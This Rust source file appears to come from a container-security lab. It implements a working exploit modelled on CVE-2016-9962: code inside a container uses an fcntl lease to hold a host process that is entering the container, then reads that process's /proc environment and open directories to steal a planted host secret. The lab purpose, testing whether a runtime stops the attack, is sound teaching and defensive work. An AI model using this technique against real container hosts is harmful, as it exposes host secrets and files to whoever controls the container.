//! A look into a process that comes in, at its last moment as a program of the host.
//!
//! That moment is short. But to execute a file is to open it, and the attacker has a lease
//! on it: whoever opens the file waits until the attacker has finished: fcntl(2).

use std::fs::{self, File, Permissions};
use std::os::fd::AsFd;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::id;

use nix::sys::signal::{SigSet, Signal};
use process::{Error, Result, Step};

use crate::attack::attacker::{mount_proc, tell_host, wait_for_end};
use crate::attack::entrant::{Attacked, join};
use crate::attack::places::IMAGE;
use crate::attack::sys;
use crate::attack::target::Attack;

/// The program that whoever comes in is going to execute.
const PROGRAM: &str = "/tool";

pub const ATTACK: Attack = Attack {
    name: "newcomer",
    title: "look into a process that comes in",
    tries: "wait until somebody comes in to run a program of the container, hold the process at \
            its exec by a lease on that file, and look through its directory in /proc: open \
            directories, the environment of its caller.",
    why: "until its exec it is a program of the host. It has the container's user and \
          capabilities by then (here without a user namespace), and the kernel asks for no more. \
          Chapter 10's is not dumpable.",
    reference: "CVE-2016-9962, PR_SET_DUMPABLE(2const), fcntl(2): leases",
    stopped_by: 10,
    run: |target| {
        let attacked = match Attacked::start(target)? {
            Ok(attacked) => attacked,
            Err(why_not) => return Ok(why_not),
        };
        let came_in = attacked.let_in("/", &[PROGRAM]);
        // Before chapter 7 it is the image's.
        let _ = fs::remove_file(Path::new(IMAGE).join(&PROGRAM[1..]));
        if let Err(error) = came_in {
            attacked.kill()?;
            return Err(error);
        }
        Ok(attacked.end()?.has_read(target.secret, "what only the host knew"))
    },
    inside: |words| match words {
        [what, rest @ ..] if what == "join" => join(rest),
        _ => look(),
    },
};

fn look() -> Result<String> {
    mount_proc();
    fs::write(PROGRAM, "#!/lab --version\n").step(|| format!("write {PROGRAM}"))?;
    fs::set_permissions(PROGRAM, Permissions::from_mode(0o755))
        .step(|| format!("make {PROGRAM} executable"))?;
    let mut wanted = SigSet::empty();
    wanted.add(Signal::SIGIO);
    wanted.thread_block().step(|| "block SIGIO")?;
    let program = File::open(PROGRAM).step(|| format!("open {PROGRAM}"))?;
    sys::take_lease(program.as_fd()).step(|| format!("take a lease on {PROGRAM}"))?;
    tell_host("")?;

    wanted.wait().step(|| "wait for somebody to open it")?;
    let mut found = Vec::new();
    for pid in processes()?.into_iter().filter(|pid| ![1, id()].contains(pid)) {
        found.push(look_into(pid));
    }
    // Closing it lets the other one go on, which would end with us.
    drop(program);
    wait_for_end()?;
    let nobody = || Err(Error::new("nobody has come in"));
    found.into_iter().reduce(Result::or).unwrap_or_else(nobody)
}

fn processes() -> Result<Vec<u32>> {
    let names = fs::read_dir("/proc").step(|| "list /proc")?.flatten();
    Ok(names.filter_map(|entry| entry.file_name().to_str()?.parse().ok()).collect())
}

/// What can be read by way of a process: its environment, and files of its directories.
fn look_into(pid: u32) -> Result<String> {
    let path = |name: &str| format!("/proc/{pid}/{name}");
    let environment = fs::read(path("environ")).step(|| format!("read {}", path("environ")));
    let open = fs::read_dir(path("fd")).into_iter().flatten().flatten();
    let directories =
        open.map(|entry| entry.path()).chain(["root", "cwd"].map(|it| path(it).into()));
    let files = directories.filter_map(|dir| fs::read_to_string(dir.join("canary")).ok());
    let files = files.collect::<String>();
    match environment {
        Err(error) if files.is_empty() => Err(error),
        environment => Ok(files + &String::from_utf8_lossy(&environment.unwrap_or_default())),
    }
}
